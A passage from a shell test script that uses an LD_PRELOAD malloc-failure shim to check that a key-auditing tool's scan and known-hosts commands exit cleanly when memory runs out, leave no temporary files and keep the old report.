	    --all-users -o "$TD/oom/s.json" >/dev/null 2>"$EB/oom.err"; } 2>/dev/null
	grep -q 'out of memory' "$EB/oom.err"
}
if ! cc -O2 -Wall -Wextra -Werror -shared -fPIC -o "$EB/oomshim.so" tests/security/oomshim.c -ldl 2>"$EB/cc.err"; then
	t_nok "oomshim.c builds" "$(cat "$EB/cc.err")"
elif ! oom_probe; then
	t_skip "allocation failures half way" "an LD_PRELOAD malloc does not reach this keyaudit (a sanitizer build?)"
else
	oom_seen=0 oom_left=
	for n in 0 1 2 3 5 8 13 40 200 1000 4096; do
		rm -rf "$TD/oom"
		mkdir -p "$TD/oom"
		echo old >"$TD/oom/o.json"
		# { } 2>/dev/null: a library may crash when memory runs out
		# (OpenSSL does), and bash would say so
		{ KA_OOM_DIR=$TD/oom KA_OOM_AFTER=$n LD_PRELOAD=$EB/oomshim.so "$KA" scan --root "$IMG" \
		    --all-users --json "$TD/oom/o.json" --prom "$TD/oom/o.prom" --junit "$TD/oom/o.xml" \
		    --fix-script "$TD/oom/o.sh" >/dev/null 2>"$EB/oom.err"; } 2>/dev/null
		rc=$?
		[ $rc = 3 ] && grep -q 'out of memory' "$EB/oom.err" && oom_seen=$((oom_seen + 1))
		l=$(find "$TD/oom" -name '*.tmp*')
		[ -n "$l" ] && oom_left="$oom_left n=$n rc=$rc: $l"
		[ "$(cat "$TD/oom/o.json")" = old ] || oom_left="$oom_left n=$n: o.json replaced"
		if [ "$ESC_SSHD" = 1 ] && [ $n -le 40 ]; then
			rm -rf "$TD/oom"
			mkdir -p "$TD/oom"
			{ KA_OOM_DIR=$TD/oom KA_OOM_AFTER=$n LD_PRELOAD=$EB/oomshim.so "$KA" known-hosts \
			    127.0.0.1:2320 -F "$EB/empty" --pin "$TD/oom/p.pin" >/dev/null 2>"$EB/oom.err"; } 2>/dev/null
			rc=$?
			[ $rc = 3 ] && grep -q 'out of memory' "$EB/oom.err" && oom_seen=$((oom_seen + 1))
			l=$(find "$TD/oom" -name '*.tmp*')
			[ -n "$l" ] && oom_left="$oom_left pin n=$n rc=$rc: $l"
		fi
	done
	[ "$oom_seen" -ge 5 ] && [ -z "$oom_left" ] &&
	    t_ok "allocation failures half way ($oom_seen out-of-memory exits): no temporary left, the old report kept" ||
	    t_nok "allocation failure ($oom_seen out-of-memory exits)" "$oom_left"
fi
[ "$ESC_SSHD" = 1 ] && t_sshd_stop esc
